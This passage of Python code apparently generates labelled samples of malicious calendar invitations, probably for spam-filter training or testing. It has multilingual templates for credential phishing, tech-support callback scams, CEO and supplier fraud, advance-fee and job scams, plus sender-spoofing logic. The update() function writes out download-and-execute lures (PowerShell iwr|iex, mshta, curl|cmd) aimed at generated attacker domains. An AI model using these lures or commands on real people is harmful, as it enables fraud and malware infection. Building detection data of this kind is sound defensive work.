        dict(s='Your PayPal account has been limited', d='We noticed unusual activity on your account. Until you confirm your information you will not be able to send or receive money.\nResolve now: {url}', k='paypal'),
        dict(s='Security alert: new sign-in to online banking', d='A new device was used to sign in to your {bank} online banking on {date}. If this was not you, secure your account immediately:\n{url}', k='bank'),
        dict(s='{sname} shared "{doc}" with you', d='{sname} has shared a file with you via Dropbox.\n{doc} (2.4 MB)\nView file: {url}', k='dropbox'),
    ],
    'de': dict(s='ELSTER: Neue Nachricht in Ihrem Postfach', d='Sehr geehrte/r {rname},\nin Ihrem ELSTER-Postfach liegt eine neue Nachricht zu Ihrer Steuererklärung. Aus Sicherheitsgründen müssen Sie Ihr Zertifikat bis zum {date} erneuern.\n{url}', k='gov'),
    'it': dict(s='Avviso di sicurezza: conto sospeso', d='Gentile cliente,\nil suo conto BancoPosta è stato temporaneamente sospeso per mancata verifica dei dati. Per riattivarlo acceda al seguente link entro 24 ore:\n{url}', k='bank'),
    'pt': dict(s='gov.br: atualização cadastral obrigatória', d='Prezado(a) contribuinte,\nSeu CPF apresenta pendências cadastrais. Regularize sua situação até {date} para evitar o bloqueio:\n{url}', k='gov'),
    'ko': dict(s='[알림] 새로운 기기에서 로그인이 감지되었습니다', d='회원님의 계정에 해외 IP({ip})에서 로그인 시도가 있었습니다.\n본인이 아닌 경우 아래 링크에서 즉시 비밀번호를 변경하세요.\n{url}', k='portal'),
    'zh': dict(s='企业邮箱升级通知', d='尊敬的用户：\n您的企业邮箱即将到期，系统将于{date}进行升级。请在24小时内点击下方链接验证账号，否则将无法正常收发邮件。\n{url}\n系统管理员', k='m365'),
    'he': dict(s='עדכון פרטים נדרש בחשבון הבנק', d='לקוח/ה יקר/ה,\nזיהינו פעילות חריגה בחשבונך. לצורך המשך שימוש בשירותי הבנק באינטרנט יש לאמת את פרטיך באמצעות הקישור הבא:\n{url}', k='bank'),
    'nl': dict(s='DigiD: uw account verloopt', d='Beste {rname},\nUw DigiD verloopt op {date}. Verleng uw DigiD eenvoudig via onderstaande link om toegang tot overheidsdiensten te behouden.\n{url}', k='gov'),
}
BANKS = ['Chase', 'Barclays', 'Wells Fargo', 'Lloyds', 'Bank of America', 'HSBC', 'Santander']


def cred(c):
    rng = c.rng
    t0 = pick(c, T_CRED)
    k = t0.pop('k')
    cl = inner(c)
    disp_by = {'m365': ['Microsoft 365', 'IT Helpdesk', 'Mail Administrator', None], 'voicemail': ['Voice Mail', 'Teams Voicemail', None],
               'docusign': ['%s via DocuSign', 'DocuSign'], 'paypal': ['PayPal', 'Service'], 'bank': ['Online Banking', 'Security Team'],
               'dropbox': [None, '%s (via Dropbox)'], 'gov': [None, 'Servicedesk'], 'portal': [None, '고객센터']}
    sp = person(rng, c.lang)
    disp = rng.choice(disp_by[k])
    if disp and '%s' in disp:
        disp = disp % sp['name']
    stem = {'m365': 'office', 'voicemail': 'voice', 'docusign': 'docusign', 'paypal': 'resolution', 'bank': 'secure', 'dropbox': 'dropbox',
            'gov': 'portal', 'portal': 'login'}[k]
    if cl == 'outlook' and c.lang == 'en' and 'storage' in t0['s']:
        identity(c, 'spoof', person(rng, 'en'), domain=c.rcpt['domain'], lp=rng.choice(['postmaster', 'it-support', 'mailadmin']),
                 name=rng.choice(['Mail Administrator', 'IT Support', 'Postmaster']), spf_result=rng.choice(['softfail', 'fail']))
        c.client_var = 'exo'
    elif cl == 'transactional':
        spam_sender(c, display=disp or 'Notification', brand_domain=fresh_domain(rng, stem))
    elif cl in ('outlook', 'google'):
        spam_sender(c, display=disp, prefer=rng.choice(['compromised', 'compromised', 'lookalike', 'throwaway']))
    else:
        spam_sender(c, display=disp)
    if rng.random() < 0.4:
        url = 'https://%s/%s/?e=%s' % (fresh_domain(rng, stem), rid(rng, 5, LOWALNUM), c.rcpt['email'] if rng.random() < 0.5 else rid(rng, 16, ALNUM))
    else:
        url = abused_host(rng, stem) + ('#' + c.rcpt['email'] if rng.random() < 0.4 else '')
    tzname = tzn(c)
    st, en = ev_time(c, tzname, days=(0, 2), hour=(8, 17), dur=rng.choice([15, 30, 60]))
    sl = base_slots(c)
    sl.update(dur=rng.randint(12, 58), ph=people.phone(rng, 'us'), doc=rng.choice(['Contract_Amendment_2024.pdf', 'Payroll Adjustment Q3', 'Invoice #%d' % rng.randint(10000, 99999),
                                                                                    'NDA - signed copy', 'Remittance Advice', 'Bonus Structure %d' % c.year]),
              sname=sp['name'], bank=rng.choice(BANKS), date=people.fmt_date(c.lang, st, False), ip='%s.%d' % (rng.choice(['198.51.100', '203.0.113', '192.0.2']), rng.randint(1, 254)))
    t = fill(t0, sl)
    ev = event(c, t['s'], t['d'], st, en, tzname, attendees=rcpt_list(c, rng.choice([0, 0, 0, 5])))
    spam_spec(c, ev)
    if cl == 'transactional':
        c.spec['brand'] = brand_tx(c, disp or 'Notification', c.sender['domain'], 'secure-message.ics')
        c.spec['subject'] = t['s']
    attach_name = None
    if k == 'voicemail':
        attach_name = 'VM_%d_%s.html' % (rng.randint(1000, 9999), rid(rng, 4, HEXU))
    finalize(c, ev, url, t, attach_name=attach_name, label='Listen' if k == 'voicemail' else 'Review document')
    if rng.random() < 0.3 and not ev.get('location'):
        ev['location'] = rng.choice(['Microsoft Teams Meeting', 'Online', 'Secure Portal'])
    c.desc = 'credential phishing (%s theme) (%s)' % (k, c.lang)


# ====================================================================== 7 tech-support / renewal callback scams (phone only)

T_CALLBACK = {
    'en': [
        dict(s='Norton 360 renewal confirmation - invoice {inv}', d='Thank you for renewing your Norton 360 Deluxe subscription.\nAmount charged: ${amount}\nPayment method: auto-debit\nIf you did not authorize this renewal, call our billing department within 24 hours: {phone}'),
        dict(s='Geek Squad: auto-renewal processed', d='Your Geek Squad Total Tech Support plan has been renewed for 3 years. ${amount} will be debited from your account within 24 hours.\nTo cancel and receive a refund call {phone}.'),
        dict(s='Invoice from {merchant} - ${amount}', d='{merchant} sent you an invoice for ${amount}.\nNote from seller: if you did not make this purchase, contact support at {phone} to cancel the payment.'),
        dict(s='Order #{inv} confirmed - {item}', d='Your order of {item} (${amount}) has been confirmed and will ship today.\nNot you? Call {phone} to cancel.'),
        dict(s='McAfee Total Protection - subscription expired', d='Your device is no longer protected. Your subscription expired and will be renewed automatically for ${amount}.\nTo cancel, call {phone}.'),
        dict(s='Windows Security: suspicious activity detected', d='Windows Defender detected Trojan:Win32/Emotet on your PC. Your personal data may be at risk.\nDo not shut down your computer. Call Microsoft Support immediately: {phone}'),
        dict(s='Withdrawal request 0.4381 BTC', d='A withdrawal of 0.4381 BTC was requested from your account.\nIf you did not request this, call our security team immediately: {phone}'),
    ],
    'fr': dict(s='Renouvellement de votre abonnement : {amount} €', d="Bonjour,\nVotre abonnement annuel a été renouvelé automatiquement. Montant débité : {amount} €.\nSi vous n'êtes pas à l'origine de ce renouvellement, appelez notre service client au {phone} sous 24 heures pour obtenir un remboursement."),
    'hi': dict(s='आपका सब्सक्रिप्शन रिन्यू हो गया है – ₹{amount}', d='नमस्ते,\nआपका एंटीवायरस सब्सक्रिप्शन अपने आप रिन्यू हो गया है और आपके खाते से ₹{amount} काटे जाएंगे।\nअगर आपने यह अनुरोध नहीं किया है, तो तुरंत हमारे हेल्पडेस्क पर कॉल करें: {phone}'),
    'ja': dict(s='【重要】セキュリティ警告：ウイルス感染の可能性', d='お使いのパソコンでトロイの木馬ウイルスが検出されました。\n個人情報が流出する恐れがあります。パソコンの電源を切らずに、直ちに下記のサポートセンターへお電話ください。\nサポートセンター：{phone}'),
    'he': dict(s='חידוש מנוי אוטומטי – חיוב ₪{amount}', d='שלום,\nהמנוי השנתי שלך חודש אוטומטית והחשבון שלך יחויב ב-₪{amount}.\nאם לא ביקשת את החידוש, יש להתקשר למוקד הביטולים תוך 24 שעות: {phone}'),
}


def callback(c):
    rng = c.rng
    set_arrival(c, 2019, 2026)
    cl = inner(c)
    ph = {'en': people.phone(rng, 'tollfree'), 'fr': '+33 9 %s %s %s %s' % tuple(rid(rng, 2, '0123456789') for _ in range(4)),
          'hi': '+91 %s %s' % (rid(rng, 5, '0123456789'), rid(rng, 5, '0123456789')), 'ja': '050-%s-%s' % (rid(rng, 4, '0123456789'), rid(rng, 4, '0123456789')),
          'he': '+972-3-%s' % rid(rng, 7, '0123456789')}[c.lang]
    if rng.random() < 0.25 and c.lang == 'en':
        ph = ph.replace('+1 ', '+1-').replace('(', '').replace(')', '').replace(' ', '-')
    disps = {'en': ['Billing Department', 'Customer Support', 'Order Confirmation', 'Support Team', 'Invoice Department'],
             'fr': ['Service Facturation', 'Service Client'], 'hi': ['बिलिंग विभाग', 'Customer Support'], 'ja': ['サポートセンター', 'セキュリティ警告'],
             'he': ['מחלקת חיובים', 'שירות לקוחות']}[c.lang]
    if cl == 'transactional':
        spam_sender(c, display=rng.choice(disps), brand_domain=fresh_domain(rng, 'billing'))
    elif cl == 'thunderbird':
        o = rng.choice(ORGS[rng.choice(['en', 'de', 'fr', 'nl'])])
        identity(c, 'spoof', person(rng, 'en'), domain=o[1], lp=rng.choice(['billing', 'invoice', 'accounts']), name=rng.choice(disps),
                 spf_result=rng.choice(['softfail', 'none', 'neutral']), dmarc_policy='p=NONE sp=NONE dis=NONE')
    else:
        spam_sender(c, display=rng.choice([None] + disps))
    tzname = tzn(c)
    st, en = ev_time(c, tzname, days=(0, 2), hour=(9, 17), dur=30)
    sl = base_slots(c)
    sl.update(inv=rng.choice(['INV', 'NT', 'GS', '']) + rid(rng, 8, '0123456789'), amount=rng.choice(['399.99', '449.99', '289.00', '319.99', '499.00', '12,999', '1.499']),
              phone=ph, merchant=rng.choice(['Elite Tech Support LLC', 'Global Software Services', 'PC Care Center']),
              item=rng.choice(['Apple MacBook Pro 16"', 'Samsung 75" QLED TV', 'Bitcoin purchase (0.12 BTC)', 'iPhone 16 Pro Max 1TB']))
    if c.lang in ('fr', 'he'):
        sl['amount'] = rng.choice(['349,99', '299,00', '419,90'])
    if c.lang == 'hi':
        sl['amount'] = rng.choice(['12,999', '24,500', '8,799'])
    t = fill(pick(c, T_CALLBACK), sl)
    summ = t['s']
    r = rng.random()
    loc = None
    if r < 0.3:
        summ = '%s – %s' % (summ, ph)
    elif r < 0.55:
        loc = ph
    ev = event(c, summ, t['d'], st, en, tzname, attendees=rcpt_list(c, 0), location=loc)
    spam_spec(c, ev)
    if cl == 'transactional':
        c.spec['brand'] = brand_tx(c, c.sender['name'], c.sender['domain'], 'invoice.ics')
        c.spec['subject'] = t['s']
    finalize(c, ev, None, t, placement='desc')
    c.desc = 'subscription / tech-support callback scam, phone number only (%s)' % c.lang


# ====================================================================== 8 fake updates and paste-this-command lures

T_UPDATE = {
    'en': [
        dict(s='Q{q} budget review', d="Hi all,\nPlease join on time. If you're on an older client, update before joining:\n{url}\nThanks"),
        dict(s='Meeting with {company} team', d='Note: your Teams version is out of date and may not connect to external meetings. Install the latest update here before the call:\n{url}'),
        dict(s='Verification required to join meeting', d='To join this secure meeting, verify you are human:\n1. Press Windows + R\n2. Paste the command below (Ctrl+V)\n3. Press Enter\n\n{cmd}\n\nThe meeting will open automatically.'),
        dict(s='Audio issue - fix before our call', d='Several participants reported no audio in the last session. Please run the audio driver fix first: open PowerShell and paste\n{cmd}\nSee you soon.'),
        dict(s='Interview - Senior Developer position', d='Our interview platform requires the {app} desktop app (Windows/macOS). Please install it before the interview and log in with your e-mail address:\n{url}'),
    ],
    'ru': dict(s='Созвон по проекту', d='Коллеги, для подключения к конференции необходимо обновить клиент до последней версии:\n{url}\nБез обновления подключиться не получится.'),
    'pt': dict(s='Reunião: proposta comercial', d='Olá {rfirst},\nPara acessar a reunião é necessário instalar o plugin de segurança do Teams. Baixe aqui antes do horário:\n{url}'),
    'pl': dict(s='Spotkanie – weryfikacja uczestnika', d='Aby dołączyć do spotkania, potwierdź, że nie jesteś robotem:\n1. Naciśnij klawisze Windows + R\n2. Wklej polecenie (Ctrl+V)\n3. Naciśnij Enter\n\n{cmd}'),
    'zh': dict(s='视频会议邀请：合同细节确认', d='您好，\n本次会议使用最新版会议客户端，旧版本无法入会。请先下载安装更新：\n{url}\n谢谢配合。'),
    'ko': dict(s='[회의] 협력사 미팅 안내', d='안녕하세요.\n회의 참석 전 보안 플러그인 설치가 필요합니다. 아래 링크에서 설치 후 접속해 주세요.\n{url}'),
}


def update(c):
    rng = c.rng
    set_arrival(c, 2021, 2026)
    cl = inner(c)
    t0 = pick(c, T_UPDATE)
    if 'cmd' in t0['d']:
        set_arrival(c, 2024, 2026)
    evil = fresh_domain(rng, rng.choice(['meet', 'zoom', 'teams', 'verify', 'cdn']))
    cmd = rng.choice(['powershell -w hidden -c "iwr https://%s/u.ps1 -UseBasicParsing | iex"' % evil,
                      'mshta https://%s/verify.hta # I am not a robot - reCAPTCHA ID %d' % (evil, rng.randint(1000, 9999)),
                      'cmd /c "curl -s https://%s/v2 | cmd"  ✅ Human verification ID: %s' % (evil, rid(rng, 6, HEXU)),
                      'powershell -nop -c "$u=\'https://%s/fix\';iex(irm $u)"' % evil])
    app = rng.choice(['MeetSpace', 'Vortax', 'GrasView', 'CallNest', 'Huddlr'])
    url = rng.choice(['https://%s/download/%s' % (evil, rng.choice(['ZoomInstaller.exe', 'TeamsSetup_x64.msi', 'update.zip', app + 'Setup.dmg'])),
                      abused_host(rng, 'update')])
    comp = person(rng, c.lang)
    if cl == 'zoom':
        throwaway(c)
        c.spec = None
    else:
        spam_sender(c, prefer=rng.choice(['compromised', 'throwaway', 'lookalike']) if cl in ('outlook', 'google') else None)
    tzname = tzn(c)
    st, en = ev_time(c, tzname, days=(0, 4), hour=(9, 17), dur=rng.choice([30, 45, 60]))
    sl = base_slots(c)
    org = rng.choice(ORGS['en'])[0]
    sl.update(q=rng.randint(1, 4), company=org, cmd=cmd, app=app)
    t = fill(t0, sl)
    ev = event(c, t['s'], t['d'], st, en, tzname, attendees=rcpt_list(c, rng.choice([0, 2, 4])))
    kw = {}
    if cl == 'zoom':
        host = c.sender
        ev['organizer'] = org_of(host)
        c.sender = dict(host, email='no-reply@zoom.us', domain='zoom.us', kind='service')
        kw = dict(zoom_host=host['name'])
    if cl == 'outlook' and rng.random() < 0.5:
        kw['teams'] = True
    spam_spec(c, ev, **kw)
    finalize(c, ev, url, t, allowed=['desc', 'altdesc', 'conference', 'location'], label='Join meeting')
    c.desc = ('paste-this-command lure' if 'cmd' in t0['d'] else 'fake meeting-client update lure') + ' (%s)' % c.lang


# ====================================================================== 9 business e-mail compromise

T_BEC = {
    'en': [
        dict(s='Quick favour', d="Hi {rfirst},\nAre you at your desk? I need you to handle something for me discreetly. I'm in meetings all day, so reply by e-mail only.\n{ceo}\nSent from my iPhone", k='ceo'),
        dict(s='Confidential - Project {codename}', d='{rfirst},\nWe are finalising a confidential acquisition and I need your help with a wire transfer today. Our counsel {lawyer} will contact you with the details. Please keep this strictly between us until the announcement.\nRegards,\n{ceo}', k='ceo'),
        dict(s='Updated remittance details - {supplier}', d='Dear {rfirst},\nPlease be advised that our bank details have changed due to an ongoing audit. All outstanding invoices ({inv}) should be paid to our new account:\nBank: {bank}\nIBAN: {iban}\nBIC: {bic}\nKindly confirm once updated.\nBest regards,\n{sname}\nAccounts Receivable', k='supplier'),
        dict(s='Direct deposit change', d="Hi,\nI recently changed banks and would like my next paycheck deposited into my new account. Can you update it before the next payroll run? Let me know what you need from me.\nThanks,\n{ename}", k='payroll'),
        dict(s='Staff appreciation', d="I want to surprise some of the team with gift cards today. Please get 5 Apple gift cards of $200 each, scratch the back and send me pictures of the codes. I'll reimburse you this afternoon.\n{ceo}", k='ceo'),
        dict(s='Overdue invoice {inv} - call to discuss', d='Hello,\nInvoice {inv} ({cur}{amount}) is now 30 days overdue. As our previous account is under review, please use the updated payment details we will share on this call and confirm the payment date.\n{sname}', k='supplier'),
    ],
    'de': dict(s='Vertrauliche Angelegenheit', d='Hallo {rfirst},\nich benötige heute Ihre Unterstützung bei einer vertraulichen Überweisung im Rahmen einer Firmenübernahme. Bitte behandeln Sie das streng vertraulich und sprechen Sie vorerst mit niemandem darüber. Unser Anwalt Dr. {lawyer} meldet sich in Kürze bei Ihnen.\nBeste Grüße\n{ceo}', k='ceo'),
    'fr': dict(s='Changement de coordonnées bancaires', d='Bonjour {rfirst},\nSuite à un audit interne, nos coordonnées bancaires ont changé. Merci d\'effectuer les prochains règlements (facture {inv}) sur notre nouveau compte :\nIBAN : {iban}\nBIC : {bic}\nMerci de me confirmer la mise à jour.\nCordialement,\n{sname}\nService comptabilité', k='supplier'),
    'es': dict(s='Urgente: transferencia confidencial', d='{rfirst}, ¿estás en la oficina? Necesito que gestiones hoy una transferencia urgente para cerrar una operación confidencial. No lo comentes con nadie hasta que se anuncie. Te envío los detalles por correo.\n{ceo}', k='ceo'),
    'it': dict(s='Aggiornamento coordinate bancarie per stipendio', d='Buongiorno,\nho cambiato banca e vorrei che il prossimo stipendio venisse accreditato sul nuovo conto. Può aggiornare i dati prima della chiusura delle buste paga? Le mando il nuovo IBAN appena mi risponde.\nGrazie,\n{ename}', k='payroll'),
    'nl': dict(s='Gewijzigde bankgegevens', d='Beste {rfirst},\nWij willen u informeren dat ons rekeningnummer is gewijzigd. Gelieve openstaande facturen ({inv}) voortaan over te maken naar:\nIBAN: {iban}\nt.n.v. {supplier}\nMet vriendelijke groet,\n{sname}\nDebiteurenadministratie', k='supplier'),
    'ja': dict(s='至急のご依頼', d='{rlast}さん\nお疲れ様です。現在会議中のため、メールで失礼します。\n極秘の案件で、本日中に海外送金をお願いしたいのですが、対応可能でしょうか。\n詳細は追ってご連絡します。この件は他言無用でお願いします。\n{ceo}', k='ceo'),
}


def _iban(rng, cc):
    lens = {'DE': 18, 'FR': 23, 'NL': 14, 'GB': 18, 'IT': 23, 'ES': 20, 'LT': 16, 'PT': 21}
    return '%s%02d %s' % (cc, rng.randint(10, 99), ' '.join(rid(rng, 4, '0123456789') for _ in range(lens.get(cc, 18) // 4)))


def ensure_org_rcpt(c):
    tries = 0
    while not c.rcpt.get('org') and tries < 20:
        make_rcpt(c)
        tries += 1


def bec(c):
    rng = c.rng
    ensure_org_rcpt(c)
    cl = inner(c)
    t0 = pick(c, T_BEC)
    k = t0.pop('k')
    lang = c.lang
    ceo = person(rng, c.rcpt['lang'] if c.rcpt['lang'] in L else lang)
    if lang == 'ja':
        ceo = person(rng, 'ja')
    emp = person(rng, lang)
    sup_org = other_org(c, lang)
    rdom = c.rcpt['domain']
    if k == 'ceo':
        r = rng.random()
        if cl in ('google', 'apple', 'yahoo'):
            identity(c, 'free', ceo, lp=rng.choice(['%s.%s.office' % (ceo['lfirst'], ceo['llast']), 'ceo.%s' % ceo['llast'], '%s%s.exec' % (ceo['lfirst'][0], ceo['llast']),
                                                    '%s.%s%d' % (ceo['lfirst'], ceo['llast'], rng.randint(1, 99))]), name=ceo['name'])
        elif cl == 'outlook' and (r < 0.4 or c.lang_idx == 0):
            identity(c, 'spoof', ceo, domain=rdom, lp=local_part(rng, ceo, 'f.l'), name=ceo['name'],
                     spf_result=rng.choice(['softfail', 'fail', 'none']))
            c.client_var = rng.choice(['exo', 'desk'])
        else:
            identity(c, 'lookalike', ceo, domain=lookalike(rng, rdom), lp=local_part(rng, ceo, 'f.l'), name=ceo['name'])
    elif k == 'supplier':
        sp = person(rng, lang)
        if rng.random() < 0.5 or cl in ('zimbra',):
            identity(c, 'compromised', sp, org=sup_org, name=sp['name'])
        else:
            identity(c, 'lookalike', sp, domain=lookalike(rng, sup_org[1]), lp=local_part(rng, sp, 'f.l'), name=sp['name'])
        if cl in ('google', 'apple', 'yahoo') and rng.random() < 0.6:
            identity(c, 'free', sp, lp='%s.%s' % (sup_org[1].split('.')[0].replace('-', ''), rng.choice(['accounts', 'finance', 'billing'])), name='%s | %s' % (sp['name'], sup_org[0]))
    else:  # payroll: employee from personal mail
        if cl in ('google', 'apple', 'yahoo', 'thunderbird'):
            identity(c, 'free', emp, name=emp['name'])
        else:
            identity(c, 'lookalike', emp, domain=lookalike(rng, rdom), lp=local_part(rng, emp, 'f.l'), name=emp['name'])
    if cl == 'zimbra' and c.sender['kind'] not in ('compromised',):
        identity(c, 'compromised', c.sender['person'], org=sup_org, name=c.sender['name'])
    tzname = c.rcpt['tz']
    st, en = ev_time(c, tzname, days=(0, 2), hour=(9, 16), dur=rng.choice([15, 30]), same_day_ok=True)
    cc = {'de': 'DE', 'fr': 'FR', 'nl': 'NL', 'it': 'IT', 'es': 'ES'}.get(lang, rng.choice(['GB', 'LT', 'PT', 'DE']))
    sl = base_slots(c)
    sl.update(ceo=ceo['name'], lawyer=person(rng, lang)['name'], codename=rng.choice(['Falcon', 'Neptune', 'Atlas', 'Cedar', 'Orion']),
              supplier=sup_org[0], inv=', '.join('INV-%d' % rng.randint(10000, 99999) for _ in range(rng.randint(1, 3))),
              bank=rng.choice(['Revolut Business', 'Wise', 'Banco BPI', 'Bunq', 'Monzo Business']), iban=_iban(rng, cc),
              bic=rid(rng, 4, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ') + cc + rid(rng, 2, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'),
              sname=c.sender['name'].split(' | ')[0], ename=emp['name'], cur=rng.choice(['€', '$', '£']), amount='{:,}'.format(rng.randint(8000, 95000)))
    t = fill(t0, sl)
    ev = event(c, t['s'], t['d'], st, en, tzname, attendees=[rcpt_att(c, with_name=True)])
    if k == 'payroll' and rng.random() < 0.5:
        ev['attendees'].append(att(c.rcpt['email'].replace(c.rcpt['email'].split('@')[0], rng.choice(['payroll', 'hr', 'personal'])), None))
    spam_spec(c, ev)
    if rng.random() < 0.5:
        ev['location'] = rng.choice(['Phone', 'Call', None, 'Microsoft Teams Meeting'])
    finalize(c, ev, None, t, placement='desc')
    if rng.random() < 0.4:
        c.spec['reply_to'] = '%s <%s@%s>' % (c.sender['name'].split(' | ')[0], rng.choice(['ceo.office', 'exec.assistant', 'accounts.dept']) + str(rng.randint(1, 99)),
                                             rng.choice(['outlook.com', 'gmail.com', 'proton.me', 'gmx.com']))
    c.desc = 'business e-mail compromise (%s) (%s)' % (k, lang)


# ====================================================================== 10 advance-fee fraud

T_ADV = {
    'en': [
        dict(s='Inheritance claim - your urgent attention', d='Dear Friend,\nI am Barrister {lname}, personal attorney to the late {dname}, who died with his family in a car accident. He left a deposit of US$ {musd} million with our bank. I want to present you as next of kin so the funds can be released to you.\nContact me on my private e-mail: {reply}'),
        dict(s='Compensation payment approved', d='This is to notify you that the Compensation Commission has approved your payment of $1,500,000.00 as a fraud victim. Contact the payment officer {dname} at {reply} with your full name, address and phone number.'),
        dict(s='Donation of $2,800,000.00 to you', d='Hello, I am Mrs. {dname}, a widow suffering from cancer. I have decided to donate my late husband\'s funds to charity through you. Reply for more details: {reply}'),
        dict(s='Consignment box registered in your name', d='Your consignment box containing $ {musd},000,000 is held at the airport. Pay the clearance fee of $ 350 and forward your details to Diplomat {lname}: {reply}'),
        dict(s='Business proposal', d='I am {dname}, an auditor with a bank. I have a profitable business proposal for you that involves US$ {musd}.5M. Reply if interested: {reply}'),
    ],
    'ar': dict(s='اقتراح عمل سري', d='السلام عليكم،\nأنا {dname}، مدير العمليات في أحد البنوك. لدي صفقة سرية بقيمة {musd} مليون دولار من حساب عميل متوفى بدون ورثة. أحتاج إلى شريك أجنبي موثوق لاستلام المبلغ مقابل 40٪.\nيرجى الرد على بريدي الخاص: {reply}'),
    'ru': dict(s='Наследство на ваше имя', d='Уважаемый господин/госпожа,\nЯ адвокат {dname}. Мой клиент, ваш однофамилец, скончался, оставив на счету {musd} млн долларов США без наследников. Предлагаю оформить вас как наследника, средства разделим поровну.\nСвяжитесь со мной: {reply}'),
    'zh': dict(s='紧急合作请求', d='您好，\n我是{dname}，香港某银行的审计主管。一位已故客户在我行留下{musd}百万美元存款，无人继承。我希望与您合作将这笔资金转出，您可获得40%的分成。\n请回复我的私人邮箱：{reply}'),
    'el': dict(s='Επείγουσα επιχειρηματική πρόταση', d='Αγαπητέ φίλε,\nΕίμαι ο δικηγόρος {dname}. Ένας πελάτης μου απεβίωσε αφήνοντας {musd} εκατομμύρια δολάρια χωρίς κληρονόμους. Θα ήθελα να σας παρουσιάσω ως πλησιέστερο συγγενή.\nΠαρακαλώ απαντήστε στο: {reply}'),
}


def advance(c):
    rng = c.rng
    dp = person(rng, c.lang if c.lang != 'en' else rng.choice(['en', 'en', 'fr']))
    lp_ = person(rng, 'en')
    spam_sender(c, display=dp['name'] if rng.random() < 0.6 else rng.choice(['Barrister ' + lp_['name'], 'Payment Office', None]))
    reply = '%s@%s' % (rng.choice([dp['lfirst'] + '.' + dp['llast'], 'barr.' + lp_['llast'], 'office' + rid(rng, 3, '0123456789'), dp['llast'] + rid(rng, 2, '0123456789')]),
                       rng.choice(['gmail.com', 'outlook.com', 'yandex.com', 'proton.me', 'gmx.com', 'aol.com', 'zohomail.eu']))
    tzname = rng.choice(['Africa/Lagos', 'Europe/London', tzn(c)])
    st, en = ev_time(c, tzname, days=(1, 10), hour=(9, 18), dur=60)
    sl = base_slots(c)
    sl.update(dname=dp['name'], lname=lp_['name'], musd=rng.choice(['7.5', '10.2', '12', '18.6', '4.8', '25']), reply=reply)
    t = fill(pick(c, T_ADV), sl)
    ev = event(c, t['s'], t['d'], st, en, tzname, attendees=rcpt_list(c, rng.choice([0, 0, 10, 40]), free_share=0.7))
    spam_spec(c, ev, reply_to=reply)
    finalize(c, ev, None, t, placement='desc')
    maybe_list(c)
    c.desc = 'advance-fee fraud (%s)' % c.lang


# ====================================================================== 11 task / job scams moving victims to messengers

T_TASK = {
    'en': [
        dict(s='Part-time remote job - {usd} USD/day', d='Hello! We are hiring part-time online staff. Simple tasks: like videos and rate products from your phone, 60-90 minutes per day. Daily pay {usd} USD.\nContact our HR {hr} on WhatsApp: {wa}'),
        dict(s='Interview: Remote Data Annotation Assistant', d='Hi {rfirst}, your profile was shortlisted by our recruitment team. Please add our coordinator on Telegram {tg} to receive the training and start earning today.'),
        dict(s='Your application - {company} remote team', d='Congratulations! You can start with our app optimisation tasks right away. Commission 0.5% per task plus {usd} USD bonus.\nRegister: {url}\nThen message {tg} for your first set of tasks.'),
        dict(s='Job offer', d='We received your CV from an online job portal. Remote role, flexible hours, $800-$2,000 per week.\nReply on WhatsApp {wa} (text only, no calls).'),
    ],
    'hi': dict(s='घर बैठे कमाएं ₹{inr} रोज़', d='नमस्ते!\nहमारी कंपनी को पार्ट-टाइम ऑनलाइन काम के लिए लोग चाहिए। सिर्फ़ वीडियो लाइक करने हैं, रोज़ ₹{inr} तक कमाएं।\nअभी व्हाट्सऐप करें: {wa}'),
    'th': dict(s='รับสมัครงานออนไลน์ รายได้วันละ {thb} บาท', d='งานง่ายๆ ทำที่บ้านได้ ใช้มือถือเครื่องเดียว กดไลก์และรีวิวสินค้า รายได้วันละ {thb} บาท จ่ายทุกวัน\nสนใจแอดไลน์: {line}'),
    'pt': dict(s='Vaga home office – ganhe R$ {brl} por dia', d='Olá! Estamos contratando para trabalho remoto de meio período. Tarefas simples pelo celular, pagamento diário via Pix.\nFale com nossa recrutadora pelo WhatsApp: {wa}'),
    'es': dict(s='Oferta de empleo desde casa', d='Hola, vimos tu perfil en un portal de empleo. Buscamos personas para tareas sencillas en línea (valorar productos), 1 hora al día, {eur} € diarios.\nEscríbenos por WhatsApp: {wa}'),
    'ru': dict(s='Удалённая работа: от {rub} ₽ в день', d='Здравствуйте! Мы ищем сотрудников на удалённую подработку. Простые задания со смартфона, 1–2 часа в день, выплаты ежедневно.\nНапишите менеджеру в Telegram: {tg}'),
    'ar': dict(s='وظيفة عن بعد براتب يومي', d='مرحباً،\nنبحث عن موظفين للعمل عن بعد بدوام جزئي. مهام بسيطة من هاتفك لمدة ساعة يومياً مقابل {sar} ريال يومياً.\nتواصل مع قسم الموارد البشرية عبر واتساب: {wa}'),
}


def task(c):
    rng = c.rng
    set_arrival(c, 2020, 2026)
    cl = inner(c)
    hr = person(rng, c.lang)
    comp = rng.choice(['Apex Digital Media', 'Nova Reach Marketing', 'BrightPath Staffing', 'Lumen Apps Agency', 'Orbit Ad Solutions'])
    if cl == 'transactional':
        spam_sender(c, display='%s Recruitment' % comp, brand_domain=fresh_domain(rng, 'jobs'))
    elif cl == 'zoom':
        throwaway(c, display=hr['name'])
    else:
        spam_sender(c, display=rng.choice([hr['name'], 'HR Department', '%s HR' % comp]))
    wa = wa_number(rng)
    url = spam_url(c, 'task')
    tzname = tzn(c)
    st, en = ev_time(c, tzname, days=(0, 3), hour=(9, 20), dur=30, weekday_only=False)
    sl = base_slots(c)
    sl.update(usd=rng.choice(['150', '200', '300', '500']), inr=rng.choice(['3,000', '5,000', '8,000']), thb=rng.choice(['800', '1,500', '3,000']),
              brl=rng.choice(['200', '350', '500']), eur=rng.choice(['80', '120', '150']), rub=rng.choice(['3 000', '5 000', '7 500']),
              sar=rng.choice(['200', '350', '500']), wa=wa, tg=tg_handle(rng), line='@' + rid(rng, 8, LOWALNUM), hr=hr['name'], company=comp)
    t = fill(pick(c, T_TASK), sl)
    ev = event(c, t['s'], t['d'], st, en, tzname, attendees=rcpt_list(c, rng.choice([0, 0, 5, 30])))
    kw = {}
    if cl == 'zoom':
        host = c.sender
        ev['organizer'] = org_of(host)
        c.sender = dict(host, email='no-reply@zoom.us', domain='zoom.us', kind='service')
        kw = dict(zoom_host=host['name'])
    spam_spec(c, ev, **kw)
    if cl == 'transactional':
        c.spec['brand'] = brand_tx(c, c.sender['name'], c.sender['domain'], 'interview.ics')
        c.spec['subject'] = t['s']
    finalize(c, ev, url, t)
    if rng.random() < 0.3 and not ev.get('location'):
        ev['location'] = rng.choice(['WhatsApp', 'Telegram', 'Online interview', 'LINE'])
